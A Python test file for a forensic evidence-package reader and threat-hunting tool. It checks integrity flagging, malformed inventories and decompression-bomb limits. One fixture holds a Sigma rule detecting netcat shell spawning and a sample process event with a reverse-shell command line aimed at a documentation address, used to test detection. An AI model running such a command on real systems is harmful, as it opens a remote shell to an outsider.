"""What a collector took is checked before it is hunted over: what differs is named and left out, the rest goes in."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from datetime import datetime, timedelta
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vonggac.engines.hunt import RuleSet
from vonggac.engines.hunt.indicating import Known, Sort
from vonggac.sources.events import Input, Limits, find_inputs, read_input
from vonggac.sources.hunting import Options, Watched, hunt, read_package
from vonggac.sources.hunting.packages import is_package, with_origins
from vonggac.sources.refusal import Refused
from vonggac.sources.sigma import read_rules

AUTH = b"Mar  2 03:04:05 sshd[7]: Failed password for root from 198.51.100.7 port 22 ssh2\n"
FILES = {"nhat-ky/var/log/auth.log": b"Mar  2 03:04:05 may-a sshd[7]: Failed password for root from 198.51.100.7 port 22 ssh2\n",
         "nhat-ky/var/log/auth.log.2.gz": gzip.compress(b"Mar  1 03:04:05 may-a sshd[7]: Failed password for x from 198.51.100.8\n"),
         "trang-thai/tien-trinh.jsonl": b'{"Image": "/usr/sbin/sshd", "sha256": "' + b"ab" * 32 + b'"}\n'}  # fmt: skip


def lists(files: Mapping[str, bytes], **said: Any) -> dict[str, bytes]:
    """Return the two lists over these files, as the collectors write them."""
    told = {
        "format": "vonggac-thu-thap", "version": 1, "host": "may-a", "organisation_code": "H48.12", "system": "Debian 12",
        "taken_at": "2026-03-03T08:00:00+07:00", "taken_by": "root", "zone": "+0000", "clock": "+0.4 s",
        "files": [{"name": name, "origin": f"/{name}", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
                  for name, data in files.items()],
        "not_taken": [{"what": "/var/log/audit/audit.log", "why": "không có quyền đọc"}], **said,
    }  # fmt: skip
    inventory = json.dumps(told, ensure_ascii=False).encode()
    every = {"kiem-ke.json": inventory, **files}
    sums = "".join(f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in every.items())
    return {"kiem-ke.json": inventory, "SHA256SUMS": sums.encode()}


def as_zip(path: Path, files: Mapping[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(f"may-a/{name}", data)
    return path


def as_tar(path: Path, files: Mapping[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"may-a/{name}")
            info.size, info.mtime = len(data), 1_772_500_000
            archive.addfile(info, io.BytesIO(data))
    return path


RULE = """
title: nc mở vỏ lệnh
id: 11111111-1111-4111-8111-111111111111
logsource: {product: %s, category: process_creation}
detection:
  one: {CommandLine|contains: ' -e /bin/', ParentImage|endswith: /nginx, Hashes|contains: SHA256=ABAB}
  condition: one
"""
LINUX, WINDOWS = RULE % "linux", RULE % "windows"
PACKED = pytest.mark.parametrize("packed", [as_zip, as_tar], ids=["zip", "tar.gz"])
Packed = Callable[[Path, Mapping[str, bytes]], Path]


def rules_of(package: Path) -> set[tuple[str, str]]:
    return {(bad.place.source.rpartition("/")[2], bad.rule) for bad in read_package(package).bad}


@PACKED
def test_a_sound_package_says_whose_it_is_and_lists_every_file(tmp_path: Path, packed: Packed) -> None:
    package = read_package(packed(tmp_path / "goi", lists(FILES) | FILES))
    assert (package.host, package.organisation_code, package.taken_by) == ("may-a", "H48.12", "root")
    assert package.taken_at == datetime.fromisoformat("2026-03-03T08:00:00+07:00")
    assert package.zone is not None
    assert package.zone.utcoffset(None) == timedelta()
    assert [one.name for one in package.entries] == list(FILES)
    assert [one.why for one in package.not_taken] == ["không có quyền đọc"]
    assert package.bad == ()


@PACKED
def test_an_altered_an_added_and_a_lost_file_are_named_and_the_others_stay(tmp_path: Path, packed: Packed) -> None:
    given = lists(FILES) | FILES | {"nhat-ky/var/log/auth.log": b"nothing happened\n", "nhat-ky/them.log": b"x\n"}
    del given["trang-thai/tien-trinh.jsonl"]
    path = packed(tmp_path / "goi", given)
    wrong = {("auth.log", "altered-entry"), ("them.log", "unlisted-entry"), ("tien-trinh.jsonl", "missing-entry")}
    assert rules_of(path) == wrong
    assert [one.name for one in read_package(path).entries] == ["nhat-ky/var/log/auth.log.2.gz"]
    assert all("goi/may-a/" in str(bad) for bad in read_package(path).bad)


def test_the_inventory_itself_has_a_sum(tmp_path: Path) -> None:
    files = lists(FILES) | FILES
    files["kiem-ke.json"] = files["kiem-ke.json"].replace(b"may-a", b"may-b")
    assert rules_of(as_zip(tmp_path / "goi", files)) == {("kiem-ke.json", "altered-inventory")}


def test_a_broken_inventory_leaves_every_file_readable(tmp_path: Path) -> None:
    path = as_zip(tmp_path / "goi.zip", {"kiem-ke.json": b'{"format": "vonggac-thu', "SHA256SUMS": b""} | FILES)
    watched = Watched()
    list(hunt([path], RuleSet(()), Options(), watched))
    assert watched.events == 3
    assert [bad.rule for bad in watched.bad] == ["bad-inventory"]


def test_a_package_cut_off_loses_only_its_end(tmp_path: Path) -> None:
    noise = random.Random(7).randbytes(40_000)
    files = {"a.log": AUTH, "b.bin": noise}
    whole = as_tar(tmp_path / "whole", lists(files) | files).read_bytes()
    path = tmp_path / "goi.tar.gz"
    path.write_bytes(whole[: len(whole) // 2])
    assert [one.name for one in read_package(path).entries] == ["a.log"]
    assert ("b.bin", "altered-entry") in rules_of(path)
    watched = Watched()
    list(hunt([path], RuleSet(()), Options(), watched))
    assert watched.events == 1
    assert {bad.rule for bad in watched.bad} >= {"altered-entry", "damaged"}


@pytest.mark.parametrize(("system", "rule"), [("linux", LINUX), ("windows", WINDOWS)])
def test_a_process_that_ran_when_it_was_collected_is_seen_by_rules_of_starting_processes(tmp_path: Path, system: str, rule: str) -> None:
    (tmp_path / "a.yml").write_text(rule, encoding="utf-8")
    told = {
        "vonggac": "tien-trinh", "system": system, "Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 198.51.100.7 4444",
        "ParentImage": "/usr/sbin/nginx", "started": 1_772_420_645, "sha256": "ab" * 32,
    }  # fmt: skip
    files = {"trang-thai/tien-trinh.jsonl": json.dumps(told).encode() + b"\n"}
    path = as_zip(tmp_path / "goi.zip", lists(files) | files)
    [found] = hunt([path], read_rules([tmp_path / "a.yml"]).ruleset, Options())
    assert (found.event.host, found.event.time) == ("may-a", "2026-03-02T03:04:05.000000Z")


def test_what_is_no_package_is_refused_in_a_sentence(tmp_path: Path) -> None:
    for name, data in (("a.zip", as_zip(tmp_path / "z", FILES).read_bytes()), ("b.log", AUTH), ("c", b""), ("d.gz", gzip.compress(AUTH))):
        (tmp_path / name).write_bytes(data)
        assert not is_package(tmp_path / name)
        with pytest.raises(Refused, match="Không phải gói"):
            read_package(tmp_path / name)


@PACKED
def test_a_hunt_reads_rotated_logs_in_the_machines_zone_and_names_the_host_where_a_log_does_not(tmp_path: Path, packed: Packed) -> None:
    path = packed(tmp_path / "goi", lists(FILES) | FILES)
    [found] = with_origins(find_inputs([path]), Options().limits)
    assert isinstance(found, Input)
    events = [event for chunk in read_input(found) for event in chunk.events]
    assert [(event.host, event.time[10:]) for event in events] == [
        ("may-a", "T03:04:05+00:00"), ("may-a", "T03:04:05+00:00"), ("may-a", ""),
    ]  # fmt: skip


def test_a_log_that_names_its_host_keeps_it_and_an_altered_file_is_not_hunted(tmp_path: Path) -> None:
    files = dict(FILES)
    files["nhat-ky/may-b.log"] = b"Mar  2 03:04:05 may-b sshd[7]: Failed password for root from 198.51.100.7 port 22 ssh2\n"
    path = as_zip(tmp_path / "goi.zip", lists(files) | files | {"nhat-ky/var/log/auth.log": AUTH})
    known = Known(Sort.HASH, "ab" * 32, "ds"), Known(Sort.ADDRESS, "198.51.100.7", "ds")
    watched = Watched()
    found = list(hunt([path], RuleSet(()), Options(known=known), watched))
    assert {(one.event.source.rpartition("/")[2], one.event.host) for one in found} == {
        ("may-b.log", "may-b"),
        ("tien-trinh.jsonl", "may-a"),
    }
    assert [bad.rule for bad in watched.bad] == ["altered-entry"]


@given(data=st.data(), packed=st.sampled_from([as_zip, as_tar]))
def test_a_package_damaged_anywhere_is_read_or_refused_and_no_damaged_file_counts_as_sound(data: st.DataObject, packed: Packed) -> None:
    with TemporaryDirectory() as folder:
        path = packed(Path(folder) / "goi", lists(FILES) | FILES)
        whole = bytearray(path.read_bytes())
        at = data.draw(st.integers(0, len(whole) - 1))
        noise = data.draw(st.binary(min_size=1, max_size=40))
        whole[at : at + len(noise)] = noise
        path.write_bytes(whole[: data.draw(st.integers(at, len(whole)))])
        is_package(path)
        try:
            package = read_package(path)
        except Refused:
            return
        sums = {name: hashlib.sha256(content).hexdigest() for name, content in FILES.items()}
        if not {"bad-inventory", "altered-inventory"} & {bad.rule for bad in package.bad}:
            assert {one.name: one.sha256 for one in package.entries}.items() <= sums.items()


@pytest.mark.parametrize(
    "inventory",
    [b"[]", b"{}", b"null", b"[" * 100_000, b'{"format": "vonggac-thu-thap", "files": [1]}', b'{"format": "vonggac-thu-thap", "files": {}}',
     b'{"format": "vonggac-thu-thap", "files": [{"name": "a", "size": "1", "sha256": "x"}]}', b"\xff\xfe\0"],
)  # fmt: skip
def test_an_inventory_of_any_shape_is_said_to_be_broken(tmp_path: Path, inventory: bytes) -> None:
    package = read_package(as_zip(tmp_path / "goi", {"kiem-ke.json": inventory, "a.log": AUTH}))
    assert [bad.rule for bad in package.bad] == ["bad-inventory"]
    assert package.entries == ()


def test_what_an_inventory_says_of_its_machine_is_taken_only_when_it_can_be(tmp_path: Path) -> None:
    said = lists(FILES, host=["x"], zone="+99:00", taken_at="hôm qua", organisation_code="a\nb" * 400, not_taken="không", since=7)
    package = read_package(as_zip(tmp_path / "goi", said | FILES))
    assert (package.host, package.zone, package.taken_at, package.not_taken, package.since) == ("", None, None, (), None)
    assert "\n" not in package.organisation_code
    assert len(package.organisation_code) <= 500
    assert len(package.entries) == len(FILES)


def test_a_bomb_in_a_package_ends_at_its_limits(tmp_path: Path) -> None:
    bomb = {"a.log": AUTH, "b.log": b"\0" * 3_000_000}
    small = Limits(unpacked=2_000_000)
    package = read_package(as_zip(tmp_path / "goi", lists(bomb) | bomb), small)
    assert [one.name for one in package.entries] == ["a.log"]
    assert {bad.rule for bad in package.bad} == {"too-large"}
